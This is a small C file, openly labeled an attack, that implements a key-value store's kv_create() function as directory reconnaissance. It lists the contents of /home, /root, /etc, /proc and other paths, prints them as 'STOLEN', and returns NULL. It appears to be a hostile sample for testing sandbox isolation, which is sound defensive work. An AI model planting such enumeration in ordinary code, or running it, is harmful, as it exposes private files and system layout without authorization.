/* Attack: walks through all files there are. */
#include <dirent.h>
#include <stdio.h>
#include "kv.h"

kv *kv_create(void) {
    const char *places[] = {"/home", "/root", "/etc", "/tmp", "/proc", "/work"};
    for (int i = 0; i < 6; i++) {
        DIR *there = opendir(places[i]);
        for (struct dirent *e; there && (e = readdir(there));) {
            if (e->d_name[0] != '.') {
                printf("STOLEN %s/%s\n", places[i], e->d_name);
            }
        }
    }
    fflush(stdout);
    return NULL;
}
